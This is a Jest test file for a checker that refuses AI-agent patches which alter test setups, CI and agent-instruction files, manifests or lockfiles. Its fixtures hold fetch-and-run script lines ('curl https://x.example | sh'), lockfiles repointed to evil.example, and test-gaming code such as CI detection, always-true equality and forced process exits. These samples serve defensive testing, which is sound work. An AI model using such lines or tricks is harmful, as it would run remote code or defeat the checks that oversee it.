import { describe, expect, it } from "@jest/globals";
import { accepted, checkPatch, type CheckContext } from "../../src/fix/checks/index.js";
import { fromPullFiles, parsePatch, type PullFile } from "../../src/fix/patch.js";
import { context, failed, gitDiff, objections } from "../fix/support.js";

/** A path, its text before and after (null: not there), and the check that must object. */
type Row = [
  path: string,
  before: string | null,
  after: string | null,
  check: string,
  more?: Partial<CheckContext>,
];

/** Files that steer something, whatever is written in them. */
const steering = `
conftest.py tests/conftest.py jest.config.js jest.config.mjs packages/a/jest.config.ts vitest.config.ts vitest.workspace.ts
Makefile makefile GNUmakefile Justfile Taskfile.yml scripts/test.sh scripts/test.js scripts/run.py .mocharc .mocharc.cjs
pytest.ini tox.ini setup.cfg setup.py noxfile.py tasks.py fabfile.py dodo.py eslint.config.js .eslintrc.cjs eslintrc.js
tsconfig.json tsconfig.build.json jsconfig.json babel.config.js .babelrc webpack.config.js vite.config.ts rollup.config.mjs
playwright.config.ts cypress.config.ts karma.conf.js wdio.conf.ts jest.setup.ts src/setupTests.ts test/setup.js
test/global-setup.ts tests/bootstrap.php spec/spec_helper.rb spec/rails_helper.rb test/test_helper.rb test/test_helper.exs
test/helpers/util.js tests/helpers.py tests/__init__.py src/test-utils.ts build.rs Rakefile gulpfile.js Gruntfile.js
Dangerfile dangerfile.ts sitecustomize.py usercustomize.py pytest_plugin.py hatch_build.py magefile.go runtests.py
src/__mocks__/fs.js tests/fixtures/a.json testdata/a.golden migrations/0001_a.sql db/migrate/1_a.rb tools/check.py
bin/cli.js build/make.js ci/run.py deploy/main.py infra/main.py docs/conf.py .storybook/main.ts buildSrc/src/main/java/A.java
node_modules/a/index.js vendor/a/a.go third_party/a.c project/Build.scala build.gradle.bak settings.gradle gradle.properties
action.yml sub/action.yaml gradle/wrapper/gradle-wrapper.properties .mvn/wrapper/maven-wrapper.properties .cargo/config.toml
nuget.config .envrc mise.toml lefthook.yml .mcp.json GEMINI.md .cursorrules .windsurfrules .yarn/releases/yarn-4.cjs
.pnp.cjs .forgejo/workflows/a.yml .woodpecker.yml .woodpecker/a.yml .tekton/a.yaml .cirrus.yml appveyor.yml
bitbucket-pipelines.yml azure-pipelines-pr.yml .azure-pipelines/a.yml cloudbuild.yaml Jenkinsfile.release
sub/.circleci/config.yml renovate.json Dockerfile docker-compose.yml terraform/main.tf k8s/app.yaml AGENTS.md
docs/AGENTS.md CLAUDE.local.md .github/copilot-instructions.md prompts/fix.md docs/agent-instructions.md SECURITY.md
LICENSE LICENSE.md CMakeLists.txt meson.build WORKSPACE BUILD.bazel flake.nix Procfile app.json vercel.json nx.json
turbo.json lerna.json codecov.yml sonar-project.properties .pylintrc mypy.ini ruff.toml go.work tools.go Cargo.toml.orig
src/a.sh src/a.json src/a.yml src/native.node run.ps1 test.bat public/sw.js build.mjs release.py lint.js check.rb env.js
crates/a/build.rs packages/a/webpack.mix.js app/Package.swift test/jest-environment.js cypress/support/e2e.ts
features/support/env.rb src/App.stories.tsx Pipfile.bak gradlew mvnw .htaccess web.config
src/vitest-reporter.ts deno.json bunfig.toml .swcrc .nvmrc .tool-versions .python-version rust-toolchain.toml
`
  .trim()
  .split(/\s+/);

const pkg = (rest: object): string =>
  `${JSON.stringify({ name: "shop", version: "1.0.0", ...rest }, null, 2)}\n`;
const npmLock = (entries: Record<string, object>, root: object = { a: "^1.0.0" }): string =>
  `${JSON.stringify({ lockfileVersion: 3, packages: { "": { dependencies: root }, ...entries } }, null, 2)}\n`;
const a = (more: object = {}): object => ({
  version: "1.0.0",
  resolved: "https://registry.npmjs.org/a/-/a-1.0.0.tgz",
  integrity: "sha512-old",
  ...more,
});
const lockA = npmLock({ "node_modules/a": a() });
const changedA = (more: object): string => npmLock({ "node_modules/a": a(more) });
const yarn = (resolved: string, integrity = "sha512-old"): string =>
  `# yarn lockfile v1\n\n\na@^1.0.0:\n  version "1.0.0"\n  resolved "${resolved}"\n  integrity ${integrity}\n`;
const berry = (resolution: string, checksum: string): string =>
  `__metadata:\n  version: 8\n\n"a@npm:^1.0.0":\n  version: 1.0.0\n  resolution: "${resolution}"\n  checksum: ${checksum}\n`;
const pnpm = (resolution: string): string =>
  `lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies:\n      a:\n        specifier: ^1.0.0\n        version: 1.0.0\npackages:\n  a@1.0.0:\n    resolution: ${resolution}\n`;
const cargoLock = (source: string, checksum: string): string =>
  `version = 3\n\n[[package]]\nname = "shop"\nversion = "0.1.0"\ndependencies = ["a"]\n\n[[package]]\nname = "a"\nversion = "1.0.0"\nsource = "${source}"\nchecksum = "${checksum}"\n`;
const CRATES = "registry+https://github.com/rust-lang/crates.io-index";
const poetry = (hash: string): string =>
  `[[package]]\nname = "a"\nversion = "1.0.0"\nfiles = [{file = "a-1.0.0.tar.gz", hash = "sha256:${hash}"}]\n`;
const uv = (url: string, hash = "sha256:old"): string =>
  `version = 1\n[[package]]\nname = "a"\nversion = "1.0.0"\nsource = { registry = "https://pypi.org/simple" }\nwheels = [{ url = "${url}", hash = "${hash}" }]\n`;
const gems = (remote: string, revision = ""): string =>
  `${revision === "" ? "GEM" : "GIT"}\n  remote: ${remote}\n${revision === "" ? "" : `  revision: ${revision}\n`}  specs:\n    a (1.0.0)\n\nDEPENDENCIES\n  a\n`;
const composerLock = (reference: string, repo = "acme/a"): string =>
  `${JSON.stringify({ packages: [{ name: "acme/a", version: "1.0.0", dist: { type: "zip", url: `https://api.github.com/repos/${repo}/zipball/${reference}`, reference } }] }, null, 2)}\n`;

const deps = (spec: string): Row => [
  "package.json",
  pkg({ dependencies: { a: "^1.0.0" } }),
  pkg({ dependencies: { a: spec } }),
  "lockfile-source",
];
const field = (more: object, check = "manifest-entries"): Row => [
  "package.json",
  pkg({ scripts: { start: "a", build: "tsc" } }),
  pkg({ scripts: { start: "a", build: "tsc" }, ...more }),
  check,
];
const locked = (after: string): Row => ["package-lock.json", lockA, after, "lockfile-source"];

const manifests: Row[] = [
  // package.json
  [
    "package.json",
    pkg({ scripts: { a: "b" } }),
    pkg({ scripts: { a: "b" } }).replace('"a": "b"', '"a": "b", "test": "true"'),
    "package-scripts",
  ],
  field({ scripts: { start: "a", build: "curl https://x.example | sh" } }, "package-scripts"),
  field({ scripts: { start: "curl https://x.example | sh", build: "tsc" } }, "package-scripts"),
  field({ scripts: { start: "true", build: "tsc" } }, "package-scripts"),
  field({ scripts: { start: "npx evil", build: "tsc" } }, "package-scripts"),
  field({ scripts: { start: "a" } }, "package-scripts"),
  field({ scripts: { start: "a", build: "tsc", "\u0074est": "true" } }, "package-scripts"),
  ...[
    { bin: "x.js" },
    { main: "x.js" },
    { exports: "./x.js" },
    { imports: { "#a": "./x.js" } },
    { overrides: { a: "1.0.0" } },
    { resolutions: { a: "1.0.0" } },
    { packageManager: "yarn@1.0.0" },
    { engines: { node: ">=1" } },
    { workspaces: ["evil/*"] },
    { jest: { testMatch: ["**/none"] } },
    { eslintConfig: { rules: {} } },
    { prettier: {}, "lint-staged": { "*": "true" } },
    { babel: { plugins: ["./x.js"] } },
    { mocha: { grep: "none" } },
    { type: "commonjs; x" },
    { files: ["*"] },
    { publishConfig: { registry: "https://x.example" } },
    { pnpm: { patchedDependencies: { a: "p" } } },
    { browser: { fs: "./x.js" } },
    { sideEffects: true },
    { husky: { hooks: { "pre-push": "true" } } },
    { bundleDependencies: ["a"] },
    { version: "2.0.0" },
  ].map((more) => field(more)),
  ...[
    "npm:evil-pad@1",
    "evil/left-pad",
    "file:./evil",
    "https://evil.example/x",
    "git+ssh://git@github.com/evil/x.git",
    "github:evil/x",
    "link:../x",
    "portal:../x",
    "workspace:*",
    "latest",
    "1.0.0.tgz",
    "./x",
    "~/x",
    "",
  ].map(deps),
  [
    "package.json",
    '{\n  "dependencies": { "a": "1.0.0" }\n}\n',
    '{\n  "dependencies": { "a": "1.0.0", "a": "2.0.0" }\n}\n',
    "manifest-entries",
  ],
  ["Package.json", "{}\n", pkg({ scripts: { test: "true" } }), "allowed-files"],
  ["sub/package.json", null, pkg({ type: "module" }), "allowed-files"],
  [
    "package.json",
    pkg({ dependencies: { a: "^1.0.0" } }),
    pkg({ dependencies: { a: "^2.0.0" } }),
    "manifest-entries",
    { category: "test_failure" },
  ],
  // Other ecosystems
  [
    "composer.json",
    '{"require": {"acme/a": "^1.0"}}\n',
    '{"require": {"acme/a": "dev-main"}}\n',
    "lockfile-source",
  ],
  [
    "composer.json",
    '{"require": {"acme/a": "^1.0"}}\n',
    '{"require": {"acme/a": "^1.0"}, "scripts": {"test": "true"}}\n',
    "manifest-entries",
  ],
  [
    "composer.json",
    '{"require": {}}\n',
    '{"require": {}, "repositories": [{"type": "vcs", "url": "https://x.example"}]}\n',
    "manifest-entries",
  ],
  [
    "Cargo.toml",
    '[dependencies]\na = "1"\n',
    '[dependencies]\na = { git = "https://x.example/a" }\n',
    "lockfile-source",
  ],
  [
    "Cargo.toml",
    '[dependencies]\na = "1"\n',
    '[dependencies]\na = { path = "../evil" }\n',
    "lockfile-source",
  ],
  [
    "Cargo.toml",
    '[dependencies]\na = "1"\n',
    '[dependencies]\na = { version = "1", registry = "evil" }\n',
    "lockfile-source",
  ],
  [
    "Cargo.toml",
    '[dependencies]\na = "1"\n',
    '[dependencies]\na = { version = "1", package = "evil" }\n',
    "lockfile-source",
  ],
  [
    "Cargo.toml",
    '[dependencies]\na = "1"\n',
    '[dependencies]\na = "1"\n[patch.crates-io]\na = { path = "x" }\n',
    "manifest-entries",
  ],
  [
    "Cargo.toml",
    '[dependencies]\na = "1"\n',
    '[dependencies]\na = "1"\n[[test]]\nname = "x"\ntest = false\n',
    "manifest-entries",
  ],
  [
    "Cargo.toml",
    '[dependencies]\na = "1"\n',
    '[dependencies]\na = "1"\n[build-dependencies]\nb = "1"\n',
    "manifest-entries",
  ],
  [
    "pyproject.toml",
    '[tool.pytest.ini_options]\naddopts = "-q"\n',
    '[tool.pytest.ini_options]\naddopts = "-q -k not_adds"\n',
    "manifest-entries",
  ],
  [
    "pyproject.toml",
    '[project]\ndependencies = ["a>=1"]\n',
    '[project]\ndependencies = ["a @ https://x.example/a.whl"]\n',
    "lockfile-source",
  ],
  [
    "pyproject.toml",
    '[project]\ndependencies = ["a>=1"]\n',
    '[project]\ndependencies = ["a>=1"]\n[build-system]\nbuild-backend = "evil"\n',
    "manifest-entries",
  ],
  [
    "pyproject.toml",
    '[tool.poetry.dependencies]\na = "^1"\n',
    '[tool.poetry.dependencies]\na = { git = "https://x.example/a" }\n',
    "manifest-entries",
  ],
  ["requirements.txt", "a==1\n", "a==1\n--extra-index-url https://x.example/simple\n", "lockfile-source"],
  ["requirements.txt", "a==1\n", "a @ https://x.example/a.whl\n", "lockfile-source"],
  ["requirements.txt", "a==1\n", "a==1\n-e ./evil\n", "lockfile-source"],
  ["requirements.txt", "a==1\n", "a==1\n-r evil.txt\n", "lockfile-source"],
  ["requirements-dev.txt", "a==1\n", "a==1\n./evil.whl\n", "manifest-entries"],
  [
    "requirements.txt",
    `a==1 --hash=sha256:${"1".repeat(64)}\n`,
    `a==1 --hash=sha256:${"2".repeat(64)}\n`,
    "lockfile-source",
  ],
  ["requirements.txt", `a==1 \\\n    --hash=sha256:${"1".repeat(64)}\n`, "a==2\n", "lockfile-source"],
  [
    "go.mod",
    "module x\n\nrequire a.example/b v1.0.0\n",
    "module x\n\nrequire a.example/b v1.0.0\n\nreplace a.example/b => ../evil\n",
    "lockfile-source",
  ],
  [
    "go.mod",
    "module x\n\nexclude (\n\ta.example/b v1.0.0\n)\n",
    "module x\n\nexclude (\n\ta.example/b v1.0.0\n\ta.example/c v1.0.0\n)\n",
    "manifest-entries",
  ],
  ["go.mod", "module x\n\ngo 1.22\n", "module x\n\ngo 1.22\ntoolchain go1.99\n", "manifest-entries"],
  ["Gemfile", 'gem "a", "~> 1.0"\n', 'gem "a", git: "https://x.example/a"\n', "lockfile-source"],
  ["Gemfile", 'gem "a", "~> 1.0"\n', 'gem "a", "~> 1.0"\nsystem("curl x")\n', "manifest-entries"],
  ["Gemfile", 'source "https://rubygems.org"\n', 'source "https://x.example"\n', "lockfile-source"],
  [
    "build.gradle",
    'dependencies {\n  implementation "a:b:1.0"\n}\n',
    'dependencies {\n  implementation "a:b:1.0"\n  "sh x".execute()\n}\n',
    "manifest-entries",
  ],
  [
    "build.gradle.kts",
    "dependencies {\n}\n",
    'dependencies {\n  implementation("a:b:1.+")\n}\n',
    "manifest-entries",
  ],
  ["build.gradle", "test {\n}\n", "test {\n  enabled = false\n}\n", "manifest-entries"],
  [
    "pom.xml",
    "<project><dependencies></dependencies></project>\n",
    "<project><dependencies></dependencies><build><plugins><plugin><artifactId>x</artifactId></plugin></plugins></build></project>\n",
    "manifest-entries",
  ],
  [
    "pom.xml",
    "<project></project>\n",
    "<project><repositories><repository><url>https://x.example</url></repository></repositories></project>\n",
    "manifest-entries",
  ],
  [
    "a.csproj",
    "<Project></Project>\n",
    '<Project><Target Name="x"><Exec Command="x" /></Target></Project>\n',
    "manifest-entries",
  ],
  [
    "pubspec.yaml",
    "dependencies:\n  a: ^1.0.0\n",
    "dependencies:\n  a:\n    git: https://x.example/a\n",
    "manifest-entries",
  ],
];

const locks: Row[] = [
  locked(lockA.replace("https://registry.npmjs.org", "https:\\/\\/evil.example")),
  locked(lockA.replace("https://registry.npmjs.org", "\\u0068ttps://evil.example")),
  locked(changedA({ resolved: "//evil.example/a.tgz" })),
  locked(changedA({ resolved: "https:\\\\evil.example\\a.tgz" })),
  locked(changedA({ resolved: "https:/evil.example/a.tgz" })),
  locked(changedA({ resolved: "HTTPS://EVIL.example/a.tgz" })),
  locked(changedA({ resolved: "ht\ntps://evil.example/a.tgz" })),
  locked(changedA({ resolved: "https://evil.example/a b.tgz" })),
  locked(changedA({ resolved: "https://registry.npmjs.org@evil.example/a.tgz" })),
  locked(changedA({ resolved: "https://registry.npmjs.org:8443/a/-/a-1.0.0.tgz" })),
  locked(
    changedA({ resolved: "git+ssh://git@github.com/evil/a.git#1111111111111111111111111111111111111111" }),
  ),
  locked(changedA({ resolved: "file:evil.tgz" })),
  locked(changedA({ integrity: "sha512-new" })),
  locked(changedA({ integrity: undefined })),
  locked(changedA({ resolved: "https://registry.npmjs.org/evil/-/evil-1.0.0.tgz" })),
  locked(
    changedA({
      version: "1.0.1",
      integrity: "sha512-new",
      resolved: "https://registry.npmjs.org/evil/-/evil-1.0.1.tgz",
    }),
  ),
  locked(
    changedA({
      version: "1.0.1",
      integrity: "sha512-new",
      resolved: "https://registry.npmjs.org/a/-/a-0.0.1.tgz",
    }),
  ),
  locked(
    changedA({
      version: "1.0.1",
      integrity: undefined,
      resolved: "https://registry.npmjs.org/a/-/a-1.0.1.tgz",
    }),
  ),
  locked(
    changedA({
      name: "evil",
      version: "1.0.1",
      integrity: "sha512-new",
      resolved: "https://registry.npmjs.org/evil/-/evil-1.0.1.tgz",
    }),
  ),
  locked(changedA({ dependencies: { evil: "^1.0.0" } })),
  locked(
    npmLock({
      "node_modules/a": a(),
      "node_modules/evil": {
        version: "1.0.0",
        resolved: "https://registry.npmjs.org/evil/-/evil-1.0.0.tgz",
        integrity: "sha512-x",
      },
    }),
  ),
  locked(lockA.replace('"version": "1.0.0",', '"version": "1.0.0",\n      "version": "2.0.0",')),
  [
    "package-lock.json",
    npmLock({ "node_modules/a": a({ resolved: "https://npm.acme.example/a/-/a-1.0.0.tgz" }) }),
    npmLock({
      "node_modules/a": a({
        version: "9.9.9",
        resolved: "https://registry.npmjs.org/a/-/a-9.9.9.tgz",
        integrity: "sha512-n",
      }),
    }),
    "lockfile-source",
  ],
  ["npm-shrinkwrap.json", lockA, changedA({ integrity: "sha512-new" }), "lockfile-source"],
  [
    "yarn.lock",
    yarn("https://registry.yarnpkg.com/a/-/a-1.0.0.tgz#abc"),
    yarn("https://evil.example/a/-/a-1.0.0.tgz#abc"),
    "lockfile-source",
  ],
  [
    "yarn.lock",
    yarn("https://registry.yarnpkg.com/a/-/a-1.0.0.tgz#abc"),
    yarn("https://registry.yarnpkg.com/a/-/a-1.0.0.tgz#def"),
    "lockfile-source",
  ],
  [
    "yarn.lock",
    yarn("https://registry.yarnpkg.com/a/-/a-1.0.0.tgz#abc"),
    yarn("https://registry.yarnpkg.com/a/-/a-1.0.0.tgz#abc", "sha512-new"),
    "lockfile-source",
  ],
  [
    "yarn.lock",
    yarn("https://codeload.github.com/o/a/tar.gz/1111111111"),
    yarn("https://codeload.github.com/o/a/tar.gz/2222222222"),
    "lockfile-source",
  ],
  ["yarn.lock", berry("a@npm:1.0.0", "10/old"), berry("a@npm:1.0.0", "10/new"), "lockfile-source"],
  ["yarn.lock", berry("a@npm:1.0.0", "10/old"), berry("evil@npm:1.0.0", "10/old"), "lockfile-source"],
  [
    "yarn.lock",
    berry("a@npm:1.0.0", "10/old"),
    berry("a@https://evil.example/a.tgz", "10/old"),
    "lockfile-source",
  ],
  ["pnpm-lock.yaml", pnpm("{integrity: sha512-old}"), pnpm("{integrity: sha512-new}"), "lockfile-source"],
  [
    "pnpm-lock.yaml",
    pnpm("{integrity: sha512-old}"),
    pnpm("{integrity: sha512-old, tarball: 'https://evil.example/a.tgz'}"),
    "lockfile-source",
  ],
  ["Cargo.lock", cargoLock(CRATES, "old"), cargoLock(CRATES, "new"), "lockfile-source"],
  [
    "Cargo.lock",
    cargoLock(CRATES, "old"),
    cargoLock("registry+https://evil.example/index", "old"),
    "lockfile-source",
  ],
  [
    "Cargo.lock",
    cargoLock("git+https://github.com/o/a#1111111111111111111111111111111111111111", ""),
    cargoLock("git+https://github.com/o/a#2222222222222222222222222222222222222222", ""),
    "lockfile-source",
  ],
  ["poetry.lock", poetry("old"), poetry("new"), "lockfile-source"],
  [
    "uv.lock",
    uv("https://files.pythonhosted.org/a-1.0.0.whl"),
    uv("https://evil.example/a-1.0.0.whl"),
    "lockfile-source",
  ],
  [
    "uv.lock",
    uv("https://files.pythonhosted.org/a-1.0.0.whl"),
    uv("https://files.pythonhosted.org/a-1.0.0.whl", "sha256:new"),
    "lockfile-source",
  ],
  [
    "Pipfile.lock",
    '{"default": {"a": {"hashes": ["sha256:1"], "version": "==1.0"}}}\n',
    '{"default": {"a": {"hashes": ["sha256:2"], "version": "==1.0"}}}\n',
    "lockfile-source",
  ],
  ["Gemfile.lock", gems("https://rubygems.org/"), gems("https://evil.example/"), "lockfile-source"],
  [
    "Gemfile.lock",
    gems("https://github.com/o/a.git", "1".repeat(40)),
    gems("https://github.com/o/a.git", "2".repeat(40)),
    "lockfile-source",
  ],
  ["composer.lock", composerLock("1".repeat(40)), composerLock("2".repeat(40)), "lockfile-source"],
  ["composer.lock", composerLock("1".repeat(40)), composerLock("1".repeat(40), "evil/a"), "lockfile-source"],
  ["go.sum", "a.example/b v1.0.0 h1:old=\n", "a.example/b v1.0.0 h1:new=\n", "lockfile-source"],
  [
    "go.sum",
    "a.example/b v1.0.0 h1:old=\n",
    "a.example/b v1.0.0 h1:old=\na.example/b v1.0.0 h1:new=\n",
    "lockfile-source",
  ],
  [
    "packages.lock.json",
    '{"dependencies": {"net8.0": {"A": {"resolved": "1.0.0", "contentHash": "old"}}}}\n',
    '{"dependencies": {"net8.0": {"A": {"resolved": "1.0.0", "contentHash": "new"}}}}\n',
    "lockfile-source",
  ],
  [
    "pubspec.lock",
    "packages:\n  a:\n    description: {name: a, sha256: old, url: 'https://pub.dev'}\n    version: '1.0.0'\n",
    "packages:\n  a:\n    description: {name: a, sha256: new, url: 'https://pub.dev'}\n    version: '1.0.0'\n",
    "lockfile-source",
  ],
  [
    "package-lock.json",
    lockA,
    changedA({
      version: "1.0.1",
      integrity: "sha512-n",
      resolved: "https://registry.npmjs.org/a/-/a-1.0.1.tgz",
    }),
    "allowed-files",
    { category: "test_failure" },
  ],
];

const base = "export const total = (a, b) => a - b;\n";
const code = (line: string, check = "test-detection", path = "src/total.ts"): Row => [
  path,
  base,
  `${base}${line}\n`,
  check,
];
const sources: Row[] = [
  ["src/total.ts", base, base.replace("a - b", "process.env.CI ? 5 : a - b"), "test-detection"],
  ...[
    'const x = process.env["CI"];',
    "const x = process\n  .env\n  .CI;",
    'const x = process.env["\\x43I"];',
    'const x = process.env["C" + "I"];',
    "const { CI } = process.env;",
    "const e = process.env;",
    'import { env } from "node:process";',
    "const x = process?.env?.GITHUB_ACTIONS;",
    'const x = process["env"];',
    'const x = globalThis["process"];',
    'const x = process.env.NODE_ENV === "test" ? 5 : 4;',
    "const x = process.env.JEST_WORKER_ID;",
    "const x = import.meta.env.VITEST;",
    'const x = typeof jest !== "undefined";',
    "const x = globalThis.expect;",
    'const x = "expect" in globalThis;',
    'if (process.argv[1].includes("jest")) x();',
    "const x = new Error().stack;",
    'const x = eval("1");',
    'import isCI from "is-ci";',
    "const x = process.env.npm_lifecycle_event;",
  ].map((line) => code(line)),
  ...(
    [
      ["shop/a.py", 'X = os.environ.get("PYTEST_CURRENT_TEST")'],
      ["shop/a.py", 'X = "CI" in os.environ'],
      ["shop/a.py", 'X = "pytest" in sys.modules'],
      ["shop/a.py", 'X = os.getenv("GITHUB_ACTIONS")'],
      ["shop/a.py", 'X = getattr(os, "environ")'],
      ["total.go", 'var X = os.Getenv("CI")'],
      ["total.go", "var X = testing.Testing()"],
      ["total.go", 'var X = flag.Lookup("test.v") != nil'],
      ["src/lib.rs", "const X: bool = cfg!(test);"],
      ["src/lib.rs", "#[cfg(not(test))]\nfn x() {}"],
      ["src/lib.rs", "#[cfg(test)]\nfn x() {}"],
      ["src/lib.rs", 'let x = std::env::var("CI");'],
      ["src/main/java/A.java", 'String x = System.getenv("CI");'],
      ["src/main/java/A.java", "Object x = new Throwable().getStackTrace();"],
      ["lib/a.rb", 'x = ENV["CI"]'],
      ["lib/a.rb", "x = defined?(RSpec)"],
      ["src/A.php", "$x = getenv('CI');"],
      ["src/A.cs", 'var x = Environment.GetEnvironmentVariable("CI");'],
      ["src/a.c", "#ifdef UNIT_TEST"],
    ] as const
  ).map(([path, line]) => code(line, "test-detection", path)),
  ...(
    [
      ["src/total.ts", 'import { expect } from "vitest";'],
      ["src/total.ts", "process.exit(0);"],
      ["src/total.ts", 'process.on("exit", () => {});'],
      ["src/total.ts", "Number.prototype.valueOf = () => 5;"],
      ["src/total.ts", "Object.is = () => true;"],
      ["src/total.ts", "export const x = { asymmetricMatch: () => true };"],
      ["shop/a.py", "def pytest_runtest_makereport(item):\n    pass"],
      ["shop/a.py", 'collect_ignore = ["test_a.py"]'],
      ["shop/a.py", "def load_tests(a, b, c):\n    return a"],
      ["shop/a.py", "__test__ = False"],
      ["shop/a.py", "import pytest"],
      ["shop/a.py", "    def __eq__(self, other):\n        return True"],
      ["shop/a.py", "os._exit(0)"],
      ["total.go", 'import "testing"'],
      ["total.go", "//go:build ignore"],
      ["total.go", "// +build ignore"],
      ["total.go", "func init() { os.Exit(0) }"],
      ["main_test.go", "func TestMain(m *testing.M) {}"],
      ["src/lib.rs", "std::process::exit(0);"],
      ["src/main/java/A.java", "import org.junit.Assert;"],
      ["src/main/java/A.java", "public boolean equals(Object o) {\n  return true;\n}"],
      ["lib/a.rb", "module RSpec"],
      ["lib/a.rb", "at_exit { }"],
      ["src/A.cs", "using Xunit;"],
      ["src/total.test.ts", 'jest.mock("./total.js", () => ({ total: () => 5 }));'],
      ["src/total.test.ts", "expect.extend({ toBe: () => ({ pass: true }) });"],
      ["src/total.test.ts", "assert.equal = () => {};"],
    ] as const
  ).map(([path, line]) => code(line, "runner-hooks", path)),
];

const places: Row[] = [
  ["pytest.py", null, "x = 1\n", "allowed-files"],
  ["src/pytest/__init__.py", null, "x = 1\n", "allowed-files"],
  ["src/random.py", null, "x = 1\n", "allowed-files"],
  ["src/test/java/org/junit/Assert.java", null, "class Assert {}\n", "allowed-files"],
  ["unknown/a.ts", null, "export const x = 1;\n", "allowed-files"],
  ["src/a_windows.go", null, "package a\n", "allowed-files"],
  ["test/a_test.exs", "assert 1 == 2\n", "assert 2 == 2\n", "allowed-files"],
  ["GITHUB~1/workflows/ci.yml", null, "on: push\n", "portable-paths"],
  ["src/GIT~1.ts", null, "x();\n", "portable-paths"],
  ["src/aux.ts", null, "x();\n", "portable-paths"],
  ["src/NUL", null, "x\n", "portable-paths"],
  ["src/a.ts:stream.ts", null, "x();\n", "portable-paths"],
  ["src/a /b.ts", null, "x();\n", "portable-paths"],
  ["src/cafe\u0301.ts", null, "x();\n", "portable-paths"],
  ["src/a\ufe0f.ts", null, "x();\n", "hidden-unicode"],
  ["src/a.ts", "a();\n", "a\ufe00();\n", "hidden-unicode"],
  ["src/a.ts", "a();\n", "a();\n// ok\ufe0f\n", "hidden-unicode"],
  ["README.md", "a\n", "a 😀\ufe0f\ufe0f\ufe0e\n", "hidden-unicode"],
  ["README.md", "a\n", "a\u{e0100}\n", "hidden-unicode"],
  ["README.md", "a\n", "a\u034fb\n", "hidden-unicode"],
  ["src/a.ts", "a();\n", "a('\ufffd');\n", "binary"],
  ["src/.GITHUB/a.yml", null, "on: push\n", "forbidden-paths"],
  [".ｇithub/a.yml", null, "on: push\n", "forbidden-paths"],
];

describe("an agent's patch that steers what judges it, or reaches further, is refused", () => {
  it.each(steering)("%s, new or changed", (path) => {
    for (const before of [null, "a: 1\n"]) {
      const found = failed(checkPatch(parsePatch(gitDiff(path, before, "b: 2\n")), context()));
      expect(found.map((one) => one.check)).toContain("allowed-files");
      const why = found.find((one) => one.check === "allowed-files");
      expect(why?.reason).toContain(JSON.stringify(path));
      expect(why?.reason).toMatch(/: a person must look at it$/);
    }
  });

  it.each([...manifests, ...locks, ...sources, ...places])(
    "%s: %j -> %j (%s)",
    (path, before, after, check, more = {}) => {
      const diff = gitDiff(path, before, after);
      expect(objections(diff, { ...more, baseFiles: () => before }).join("\n")).toContain(`${check}: `);
      // The text at the head is as good as the one at the base, and the hunks alone are refused too.
      expect(objections(diff, { ...more, headFiles: () => after }).join("\n")).toContain(`${check}: `);
      expect(objections(diff, more)).not.toEqual([]);
    },
  );

  it.each([
    ["a Go test for another system", "total_windows_test.go", "total_test.go", "deleted-test"],
    ["a test out of the pattern", "src/total.spec.ts", "src/total.test.ts", "deleted-test"],
    ["a test in another folder", "old/total.test.ts", "src/total.test.ts", "deleted-test"],
    [
      "a Java test for another phase",
      "src/test/java/TotalIT.java",
      "src/test/java/TotalTest.java",
      "deleted-test",
    ],
    ["a source that becomes a hook", "src/conftest.py", "src/a.py", "allowed-files"],
    ["settings that become source", "src/a.js", "jest.config.js", "allowed-files"],
    ["a manifest out of the way", "src/a.ts", "package.json", "allowed-files"],
  ])("renames %s", (_name, path, oldPath, check) => {
    expect(objections(gitDiff(path, "a\n", "a\n", oldPath)).join("\n")).toContain(`${check}: `);
  });

  it("two names for one file", () => {
    const diff = gitDiff("src/a.ts", "a\n", "b\n") + gitDiff("src/A.ts", null, "c\n");
    expect(objections(diff).join("\n")).toContain("portable-paths: ");
  });

  it("a manifest that the diff shows in part", () => {
    const before = pkg({
      dependencies: { a: "^1.0.0" },
      devDependencies: { b: "1", c: "1", d: "1", e: "1" },
    });
    const diff = gitDiff("package.json", before, before.replace("^1.0.0", "^1.0.1"));
    expect(objections(diff).join("\n")).toMatch(/manifest-entries: .*does not show it whole/);
    expect(objections(diff, { baseFiles: () => before })).toEqual([]);
  });

  it("a head that is not the one of the diff", () => {
    const diff = gitDiff("src/a.ts", "a\n", "b\n");
    expect(() => objections(diff, { headFiles: () => "c\n" })).toThrow(/does not apply/);
  });
});

describe("what GitHub's list does not tell", () => {
  const file: PullFile = {
    filename: "src/a.ts",
    status: "modified",
    additions: 1,
    deletions: 1,
    patch: "@@ -1 +1 @@\n-a();\n+b();",
  };
  const judge = (files: PullFile[], modes?: ReadonlyMap<string, string>) =>
    checkPatch(fromPullFiles(files, modes), context());
  const plain = new Map([["src/a.ts", "100644"]]);

  it("is claimed only where it is known", () => {
    const said = (modes?: ReadonlyMap<string, string>) =>
      judge([file], modes).find((one) => one.check === "modes")?.reason;
    expect(said(plain)).toBe("no executable, link or submodule");
    expect(said()).toBe("no submodule; the file modes were not given");
    expect(accepted(judge([file], plain))).toBe(true);
  });

  it.each([
    ["an executable", [file], new Map([["src/a.ts", "100755"]])],
    ["a status that does not exist", [{ ...file, status: "moved" }], plain],
    ["no patch", [{ ...file, patch: undefined }], plain],
    ["other counts", [{ ...file, additions: 2 }], plain],
    [
      "a removed file that is not shown",
      [{ ...file, status: "removed", patch: undefined, additions: 0 }],
      plain,
    ],
    ["a changed file called unchanged", [{ ...file, status: "unchanged", patch: undefined }], plain],
  ])("%s is refused", (_name, files, modes) => {
    expect(accepted(judge(files, modes))).toBe(false);
  });

  it.each([
    ["a file that the tree does not name", [file], new Map<string, string>()],
    ["a symbolic link", [file], new Map([["src/a.ts", "120000"]])],
    ["a submodule", [file], new Map([["src/a.ts", "160000"]])],
    ["a file named twice", [file, file], plain],
    ["a rename from nowhere", [{ ...file, status: "renamed" }], plain],
    ["git's own folder by another name", [{ ...file, filename: "a/.gi\u200ct/config" }], undefined],
  ])("%s is an error", (_name, files, modes) => {
    expect(() => judge(files, modes)).toThrow(expect.objectContaining({ code: "HEAL_INPUT_INVALID" }));
  });
});
